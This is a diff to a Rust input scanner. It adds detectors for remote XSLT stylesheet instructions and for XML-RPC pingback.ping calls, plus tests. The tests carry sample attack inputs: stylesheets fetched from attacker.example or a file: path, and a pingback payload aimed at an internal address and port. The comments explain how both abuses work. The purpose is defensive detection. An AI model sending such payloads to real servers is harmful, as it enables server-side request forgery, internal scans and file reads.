@@ -72,6 +72,52 @@ pub(crate) fn inspect_lower(lower: &str, sink: &mut Sink<'_>) {
             p..(p + needle.len() + 32).min(lower.len()),
         );
     }
+    xslt_stylesheet(lower, sink);
+    xmlrpc_pingback(lower, sink);
+}
+
+/// `<?xml-stylesheet type="text/xsl" href="http://...">`: an XSLT processor
+/// that honours the processing instruction fetches the stylesheet and runs
+/// it over the document (file reads, `document()` fetches, extension
+/// functions). Reported when the stylesheet is XSLT and its `href` names a
+/// scheme or another host (`http:`, `file:`, `//host/`): a relative one is
+/// the application's own, and a CSS stylesheet, what RSS feeds name, only
+/// styles.
+fn xslt_stylesheet(lower: &str, sink: &mut Sink<'_>) {
+    let mut from = 0;
+    while let Some(p) = crate::text::find(&lower[from..], "<?xml-stylesheet") {
+        let start = from + p;
+        let window = &lower[start..(start + 512).min(lower.len())];
+        let end = window
+            .find("?>")
+            .map_or(start + window.len(), |e| start + e + 2);
+        let pi = &lower[start..end];
+        let href = pi.find("href").map_or("", |h| {
+            pi[h + 4..].trim_start_matches([' ', '=', '"', '\''])
+        });
+        let elsewhere = href.starts_with("//")
+            || href
+                .find([':', '"', '\'', ' ', '?'])
+                .is_some_and(|c| href.as_bytes()[c] == b':');
+        if elsewhere && crate::text::contains(pi, "xsl") {
+            sink.report(&rules::XXE_XINCLUDE, lower, start..end);
+            return;
+        }
+        from = end;
+    }
+}
+
+/// An XML-RPC `pingback.ping` call: WordPress (and any pingback server)
+/// fetches the source URL it names, so the call turns the server into a
+/// proxy for scans of internal hosts and for reflected floods.
+fn xmlrpc_pingback(lower: &str, sink: &mut Sink<'_>) {
+    let Some(p) = crate::text::find(lower, "pingback.ping") else {
+        return;
+    };
+    let before = lower[..p].trim_end_matches([' ', '\t', '\r', '\n']);
+    if before.ends_with("<methodname>") {
+        sink.report(&rules::SSRF_PINGBACK, lower, p..p + "pingback.ping".len());
+    }
 }
 
 #[cfg(test)]
@@ -106,5 +152,36 @@ mod tests {
     fn plain_xml_passes() {
         assert_clean("<?xml version=\"1.0\"?><order><item id=\"1\">Tea</item></order>");
         assert_clean("<!DOCTYPE html>");
+        assert_clean(
+            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss version=\"2.0\"/>",
+        );
+        assert_clean("<methodCall><methodName>blogger.getUsersBlogs</methodName></methodCall>");
+        assert_clean("<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><doc/>");
+        assert_clean("<?xml-stylesheet type=\"text/xsl\" href=\"/static/feed.xsl\"?><rss/>");
+        assert_clean("<p>Pingback.ping is WordPress's notification call.</p>");
+    }
+
+    #[test]
+    fn remote_stylesheets_and_pingbacks() {
+        assert_detects(
+            "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?><doc/>",
+            "xxe.xinclude",
+        );
+        assert_detects(
+            "<?xml-stylesheet href='file:///tmp/evil.xslt'?><a/>",
+            "xxe.xinclude",
+        );
+        assert_detects(
+            "<?xml-stylesheet type=\"text/xsl\" href=\"//cdn.attacker.example/t.xsl\"?><a/>",
+            "xxe.xinclude",
+        );
+        assert_detects(
+            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://10.0.0.5:22/</string></value></param></params></methodCall>",
+            "ssrf.pingback",
+        );
+        assert_detects(
+            "<methodCall><methodName>\n  Pingback.Ping\n</methodName></methodCall>",
+            "ssrf.pingback",
+        );
     }
 }
